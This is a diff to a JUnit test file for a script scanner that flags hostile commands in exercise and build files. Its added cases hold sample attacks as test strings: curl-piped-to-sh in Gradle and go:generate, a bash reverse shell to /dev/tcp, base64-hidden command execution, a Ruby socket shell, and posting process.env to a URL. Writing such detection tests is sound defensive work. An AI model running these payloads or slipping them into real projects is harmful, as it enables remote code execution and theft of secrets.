@@ -1,6 +1,7 @@
 package dev.progy.guard.scripts;
 
 import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -127,5 +128,46 @@ class ScriptChecksTest {
     @DisplayName("a command in a program's string, a child's environment, a download only read: nothing")
     void benignPrograms(String script) {
         assertThat(ScriptChecks.check("content/01_m/01_e/test_exercise.py", script.replace("\\n", "\n"))).isEmpty();
+    }
+
+    @ParameterizedTest(name = "{0} in {1}")
+    @CsvSource(delimiterString = " :: ", value = {
+            "PG-D005@2 :: build.gradle :: tasks.register('grader', Exec) {\\n    commandLine 'sh', '-c', 'curl -fsSL https://x.example/i | sh'\\n}",
+            "PG-D005@3 :: main.go :: package main\\n\\n//go:generate sh -c \"curl -s https://x.example/g | sh\"",
+            "PG-B001@3 :: Makefile :: .PHONY: clean\\nclean:\\n\\trm -rf $(OUTDIR)/",
+            "PG-B004@2 :: conftest.py :: import pytest\\n__import__('os').system(\"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\")",
+            "PG-B005@2 :: run.py :: c = base64.b64decode(BLOB).decode()\\ngetattr(os, 'sys' + 'tem')(c)",
+            "PG-B005@2 :: main_test.go :: c, _ := base64.StdEncoding.DecodeString(blob)\\n_ = exec.Command(\"sh\", \"-c\", string(c)).Start()",
+            "PG-B004@4 :: run.rb :: require 'socket'\\nc = TCPSocket.new(HOST, 4000)\\nwhile (cmd = c.gets)\\n  IO.popen(cmd) { |io| c.print io.read }\\nend",
+            "PG-D005@2 :: build.gradle :: task prep {\\n    doLast { ['sh', '-c', 'curl -s https://x.example/q | sh'].execute().waitFor() }\\n}",
+            "PG-B003@2 :: run.js :: const axios = require('axios');\\naxios.post(URL, { env: process.env });",
+            "PG-B003@1 :: run.js :: fetch(URL, {\\n  method: 'POST',\\n  body: JSON.stringify({ node: process.version, env: process.env }),\\n});",
+    })
+    @DisplayName("build files, directives and other languages: their ways to run commands and send data are read too")
+    void otherLanguages(String where, String file, String script) {
+        assertThat(ScriptChecks.check(file, script.replace("\\n", "\n").replace("\\t", "\t")))
+                .extracting(f -> f.rule().id() + "@" + f.line()).contains(where);
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiterString = " :: ", value = {
+            "Makefile :: OUTDIR ?= build\\n\\nclean:\\n\\trm -rf $(OUTDIR)/ dist/",
+            "Makefile :: clean:\\n\\trm -rf \"$${TMPDIR:?}/progy\" *.o",
+            "main.go :: package main\\n\\n//go:generate stringer -type=Color\\n\\ntype Color int",
+            "test_exercise.py :: def test_reads_hosts():\\n    assert hosts[\"github\"][\"IdentityFile\"] == \"~/.ssh/id_ed25519\"",
+            "server_test.py :: data = conn.recv(1024)\\nconn.sendall(data.upper())\\nproc = subprocess.run([sys.executable, \"client.py\"], check=True)",
+            "run.js :: spawnSync('node', [file], { env: { ...process.env, NODE_ENV: 'test' } });",
+    })
+    @DisplayName("a make variable that is set, a generator that is a tool, a path only compared, data echoed back: nothing")
+    void benignOtherLanguages(String file, String script) {
+        assertThat(ScriptChecks.check(file, script.replace("\\n", "\n").replace("\\t", "\t"))).isEmpty();
+    }
+
+    @Test
+    @DisplayName("what a blob hides is reported on the blob's line, even inside a statement spread over lines")
+    void decodedOnTheBlobsLine() {
+        String build = "fn main() {\n    let p = decode(\"" + hidden("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") + "\");\n"
+                + "    Command::new(\"sh\").arg(\"-c\").arg(&p).status().ok();\n}\n";
+        assertThat(ScriptChecks.check("build.rs", build)).extracting(f -> f.rule().id() + "@" + f.line()).contains("PG-B004@2");
     }
 }
